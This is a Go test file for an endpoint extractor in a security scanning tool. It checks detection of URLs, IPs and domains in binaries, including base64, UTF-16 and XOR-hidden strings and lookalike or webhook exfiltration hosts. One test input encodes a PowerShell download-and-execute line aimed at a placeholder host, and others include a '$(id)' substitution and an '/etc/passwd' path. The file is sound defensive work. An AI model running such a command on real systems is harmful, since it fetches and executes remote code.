package endpoints_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/vouch-sec/vouch/internal/analyze"
	"github.com/vouch-sec/vouch/internal/analyze/endpoints"
	"github.com/vouch-sec/vouch/internal/model"
)

type ep = model.Endpoint

func utf16le(s string) []byte {
	var b []byte
	for _, r := range utf16.Encode([]rune(s)) {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

func xor(s string, k byte) []byte {
	b := []byte(s)
	for i := range b {
		b[i] ^= k
	}
	return b
}

// junk is binary filler around encoded strings.
var junk = []byte{0x90, 0xc3, 0x48, 0x8b, 0x05, 0xff, 0x00, 0x13}

// auto in a want table: the offset is where the value first occurs.
const auto = -1

func TestExtract(t *testing.T) {
	b64url := base64.StdEncoding.EncodeToString([]byte("https://b64.example.invalid/gate"))
	psEnc := base64.StdEncoding.EncodeToString(utf16le("iwr https://ps.example.invalid/a.ps1 | iex"))
	psIn := "const a = '" + b64url + "';\nconst b = '" + psEnc + "';\n"
	tests := []struct {
		name string
		kind string
		in   []byte
		want []ep
	}{
		{"url with port, query and fragment, sentence punctuation", "text",
			[]byte("see (https://Update.Example.invalid:8443/a/b?c=d#e)."),
			[]ep{{Value: "https://Update.Example.invalid:8443/a/b?c=d#e", Type: "url", Offset: auto}}},
		{"every scheme", "text",
			[]byte("ftp://files.example.invalid/pub ws://ws.example.invalid/ wss://wss.example.invalid/s HTTP://UP.EXAMPLE.INVALID/"),
			[]ep{
				{Value: "HTTP://UP.EXAMPLE.INVALID/", Type: "url", Offset: auto},
				{Value: "ftp://files.example.invalid/pub", Type: "url", Offset: auto},
				{Value: "ws://ws.example.invalid/", Type: "url", Offset: auto},
				{Value: "wss://wss.example.invalid/s", Type: "url", Offset: auto},
			}},
		{"format strings and unknown schemes are not URLs", "text",
			[]byte("http://%s/x https://$host/ file:///etc/passwd git://a.b/c http://intranet/ https://x"),
			nil},
		{"loopback, private and IPv6 hosts", "text",
			[]byte("http://localhost:8080/api\x00ftp://10.0.0.5/pub\x00wss://[::1]:9000/s\x00http://0.0.0.0:80/"),
			[]ep{
				{Value: "ftp://10.0.0.5/pub", Type: "url", Classes: []string{"private", "raw-ip"}, Offset: auto},
				{Value: "http://localhost:8080/api", Type: "url", Classes: []string{"loopback"}, Offset: auto},
				{Value: "wss://[::1]:9000/s", Type: "url", Classes: []string{"loopback", "raw-ip"}, Offset: auto},
			}},
		{"versions, file names and abbreviations are not endpoints", "text",
			[]byte("esbuild v1.2.3.4\x00version 4.3.2.1\x00System, Version=4.0.0.0\x00node 18.17.1\x00" +
				"index.js lodash.min.js README.md install.sh setup.py lib.rs main.go e.g. i.e. Calculator.app " +
				"1.2.840.113549\x00 2.5.4.3\x00 0.0.0.0\x00 255.255.255.0\x00 10.0.0.0\x00 1.2.3.4.5\x00 libfoo-1.2.3.4\x00"),
			nil},
		{"bare addresses", "text",
			[]byte("dns 8.8.8.8:53\x00gw 192.168.1.1\x00meta 169.254.169.254\x00ssdp 239.255.255.250\x00"),
			[]ep{
				{Value: "169.254.169.254", Type: "ip", Classes: []string{"cloud-metadata", "link-local", "raw-ip"}, Offset: auto},
				{Value: "192.168.1.1", Type: "ip", Classes: []string{"private", "raw-ip"}, Offset: auto},
				{Value: "239.255.255.250", Type: "ip", Classes: []string{"multicast", "raw-ip"}, Offset: auto},
				{Value: "8.8.8.8", Type: "ip", Classes: []string{"raw-ip"}, Offset: auto},
			}},
		{"bare host names need string boundaries and a plain TLD", "pe",
			[]byte("\x00cdn.example.com\x00\x00raw.githubusercontent.com\x00\x00evil.top\x00\x00tmp0.xyz\x00\x00a.sg\x00" +
				"\x00chcp.com\x00\x00value.ir\x00\x00reflect.flag.ro\x00\x00Foo.Example.com\x00\x00pos.xyz;\x00metadata.google.internal\x00"),
			[]ep{
				{Value: "cdn.example.com", Type: "domain", Offset: auto},
				{Value: "metadata.google.internal", Type: "domain", Classes: []string{"cloud-metadata"}, Offset: auto},
				{Value: "raw.githubusercontent.com", Type: "domain", Classes: []string{"raw-content-host"}, Offset: auto},
			}},
		{"in code, bare host names must be string literals", "script/js",
			[]byte("const h = 'pastebin.com'; el.style.top = 1; const n = fn.name; a.b.com = 2; fetch(`${base}/x`); mail('ops@example.com')"),
			[]ep{
				{Value: "example.com", Type: "domain", Offset: auto},
				{Value: "pastebin.com", Type: "domain", Classes: []string{"paste-host"}, Offset: auto},
			}},
		{"classes", "text",
			[]byte("https://discord.com/api/webhooks/1/x https://evil.top/a https://micros0ft.com/update " +
				"https://githib.com/ https://github-update.com/ http://www.w3.org/2000/svg " +
				"https://raw.githubusercontent.com/u/r/main/x.sh https://github.com/u/r/raw/main/x " +
				"https://abc.ngrok-free.app/x http://xyz.duckdns.org/ https://bit.ly/abc " +
				"http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/ https://paypa1.com/ " +
				"https://api.telegram.org/bot1:x/sendMessage https://telegra.ph/x https://docket.com/"),
			[]ep{
				{Value: "http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/", Type: "url", Classes: []string{"onion"}, Offset: auto},
				{Value: "http://www.w3.org/2000/svg", Type: "url", Classes: []string{"schema"}, Offset: auto},
				{Value: "http://xyz.duckdns.org/", Type: "url", Classes: []string{"dynamic-dns"}, Offset: auto},
				{Value: "https://abc.ngrok-free.app/x", Type: "url", Classes: []string{"webhook-host"}, Offset: auto},
				{Value: "https://api.telegram.org/bot1:x/sendMessage", Type: "url", Classes: []string{"webhook-host"}, Offset: auto},
				{Value: "https://bit.ly/abc", Type: "url", Classes: []string{"shortener"}, Offset: auto},
				{Value: "https://discord.com/api/webhooks/1/x", Type: "url", Classes: []string{"webhook-host"}, Offset: auto},
				{Value: "https://docket.com/", Type: "url", Offset: auto},
				{Value: "https://evil.top/a", Type: "url", Classes: []string{"cheap-tld"}, Offset: auto},
				{Value: "https://githib.com/", Type: "url", Classes: []string{"lookalike:github"}, Offset: auto},
				{Value: "https://github-update.com/", Type: "url", Classes: []string{"lookalike:github"}, Offset: auto},
				{Value: "https://github.com/u/r/raw/main/x", Type: "url", Classes: []string{"raw-content-host"}, Offset: auto},
				{Value: "https://micros0ft.com/update", Type: "url", Classes: []string{"lookalike:microsoft"}, Offset: auto},
				{Value: "https://paypa1.com/", Type: "url", Classes: []string{"lookalike:paypal"}, Offset: auto},
				{Value: "https://raw.githubusercontent.com/u/r/main/x.sh", Type: "url", Classes: []string{"raw-content-host"}, Offset: auto},
				{Value: "https://telegra.ph/x", Type: "url", Offset: auto},
			}},
		{"UTF-16LE", "pe",
			append(append(append([]byte{}, junk...), utf16le("https://utf16.example.invalid/p")...), 0, 0),
			[]ep{{Value: "https://utf16.example.invalid/p", Type: "url", Encoding: "utf16", Offset: 8}}},
		{"single-byte XOR", "pe",
			append(append(append([]byte{}, junk...), xor("https://xor.example.invalid/c2\x00", 0x5a)...), junk...),
			[]ep{{Value: "https://xor.example.invalid/c2", Type: "url", Encoding: "xor:0x5a", Offset: 8}}},
		{"base64, also of UTF-16 (PowerShell -EncodedCommand)", "script/js",
			[]byte(psIn),
			[]ep{
				{Value: "https://b64.example.invalid/gate", Type: "url", Encoding: "base64", Offset: 11},
				{Value: "https://ps.example.invalid/a.ps1", Type: "url", Encoding: "base64", Offset: int64(strings.Index(psIn, psEnc))},
			}},
		{"strings stored back to back (Go, Rust)", "elf",
			[]byte("\x00https://github.com/evanw/esbuildFailed to start\x00aborthttps://go.dev/issue/1https://example.com/x]headerCustom\x00"),
			[]ep{
				{Value: "https://example.com/x", Type: "url", Offset: auto},
				{Value: "https://github.com/evanw/esbuild", Type: "url", Offset: auto},
				{Value: "https://go.dev/issue/1", Type: "url", Offset: auto},
			}},
		{"DER IA5String: the declared length wins", "pe",
			append(append([]byte{0x86, byte(len("http://crl.example.invalid/root.crl"))}, "http://crl.example.invalid/root.crl"...), '0', 0x82),
			[]ep{{Value: "http://crl.example.invalid/root.crl", Type: "url", Offset: auto}}},
		{"duplicates keep the first offset", "text",
			[]byte("https://a.example.invalid/ x https://a.example.invalid/ y https://a.example.invalid/"),
			[]ep{{Value: "https://a.example.invalid/", Type: "url", Offset: auto}}},
		{"template and shell substitutions end a URL", "script/js",
			[]byte("u = `https://registry.npmjs.org/${pkg}/-/x.tgz`; v = \"http://a.example.invalid/x$(id)\""),
			[]ep{
				{Value: "http://a.example.invalid/x", Type: "url", Offset: auto},
				{Value: "https://registry.npmjs.org/", Type: "url", Offset: auto},
			}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			for i := range tc.want {
				if tc.want[i].Offset == auto {
					tc.want[i].Offset = int64(bytes.Index(tc.in, []byte(tc.want[i].Value)))
				}
			}
			got := endpoints.Extract(tc.in, tc.kind)
			if diff := cmp.Diff(tc.want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Extract(%q) (-want +got):\n%s", tc.in, diff)
			}
		})
	}
}

func TestCap(t *testing.T) {
	var b bytes.Buffer
	for i := range 600 {
		fmt.Fprintf(&b, "https://h%03d.example.invalid/\x00", i)
	}
	b.WriteString("https://micros0ft.com/x\x00")
	got := endpoints.Extract(b.Bytes(), "text")
	if len(got) != endpoints.MaxEndpoints {
		t.Fatalf("got %d endpoints, want %d", len(got), endpoints.MaxEndpoints)
	}
	for i := 1; i < len(got); i++ {
		if got[i-1].Value >= got[i].Value {
			t.Fatalf("not sorted at %d: %q >= %q", i, got[i-1].Value, got[i].Value)
		}
	}
	// The classed endpoint survives the cut although it sorts last.
	if last := got[len(got)-1]; last.Value != "https://micros0ft.com/x" {
		t.Errorf("last = %q, want the look-alike kept", last.Value)
	}
}

type readerAt struct {
	*bytes.Reader
	reads int
}

func (r *readerAt) ReadAt(p []byte, off int64) (int, error) {
	r.reads++
	return r.Reader.ReadAt(p, off)
}

// TestAnalyzeChunks places endpoints across the analyzer's 4 MiB chunk
// borders: each is found once, whole, at its true offset.
func TestAnalyzeChunks(t *testing.T) {
	const size = 9 << 20
	data := bytes.Repeat([]byte{0xcc}, size)
	put := func(off int, s []byte) { copy(data[off:], s) }
	u := "https://border.example.invalid/a/very/long/path/" + strings.Repeat("x", 100)
	put(4<<20-20, []byte(u))                                        // across the first border
	put(8<<20-64<<10-10, utf16le("https://wide.example.invalid/w")) // across the second chunk's start
	put(6<<20, xor("https://xor.example.invalid/\x00", 0x21))       // inside
	put(9<<20-40, []byte("\x00https://end.example.invalid/z"))      // runs to EOF
	r := &readerAt{Reader: bytes.NewReader(data)}
	f := &model.File{Facts: &model.Facts{}}
	in := &analyze.Input{Path: "x.bin", Kind: "data", R: r, Size: size}
	a := endpoints.New()
	if !a.Match(in.Kind) {
		t.Fatal("data not matched")
	}
	if err := a.Analyze(context.Background(), in, f); err != nil {
		t.Fatal(err)
	}
	want := []ep{
		{Value: u, Type: "url", Offset: 4<<20 - 20},
		{Value: "https://end.example.invalid/z", Type: "url", Offset: 9<<20 - 39},
		{Value: "https://wide.example.invalid/w", Type: "url", Encoding: "utf16", Offset: 8<<20 - 64<<10 - 10},
		{Value: "https://xor.example.invalid/", Type: "url", Encoding: "xor:0x21", Offset: 6 << 20},
	}
	if diff := cmp.Diff(want, f.Facts.Endpoints); diff != "" {
		t.Errorf("endpoints (-want +got):\n%s", diff)
	}
	if r.reads != 3 {
		t.Errorf("%d reads, want 3 chunks", r.reads)
	}
}

func TestMatch(t *testing.T) {
	a := endpoints.New()
	for kind, want := range map[string]bool{
		"pe": true, "elf": true, "macho": true, "macho-fat": true, "script/js": true, "script/shell": true,
		"text": true, "text/json": true, "text/xml": true, "image/svg": true, "data": true, "wasm": true,
		"image/png": false, "zip": false, "gzip": false, "empty": false, "msi": false,
	} {
		if got := a.Match(kind); got != want {
			t.Errorf("Match(%q) = %v, want %v", kind, got, want)
		}
	}
}

// TestFixture extracts from testdata/mixed.bin (see gen.sh): one endpoint
// per encoding, with its offset in the file.
func TestFixture(t *testing.T) {
	b, err := os.ReadFile("testdata/mixed.bin")
	if err != nil {
		t.Fatal(err)
	}
	got := endpoints.Extract(b, "pe")
	want := []ep{
		{Value: "185.220.101.7", Type: "ip", Classes: []string{"raw-ip"}, Offset: 0x50},
		{Value: "https://b64.example.invalid/stage2", Type: "url", Encoding: "base64", Offset: 0xc2},
		{Value: "https://plain.example.invalid/update", Type: "url", Offset: 0x20},
		{Value: "https://wide.example.invalid/cfg", Type: "url", Encoding: "utf16", Offset: 0x60},
		{Value: "https://xor.example.invalid/gate", Type: "url", Encoding: "xor:0x5a", Offset: 0xa0},
		{Value: "update.microsoft-support.xyz", Type: "domain", Classes: []string{"cheap-tld", "lookalike:microsoft"}, Offset: 0x100},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("mixed.bin (-want +got):\n%s", diff)
	}
}
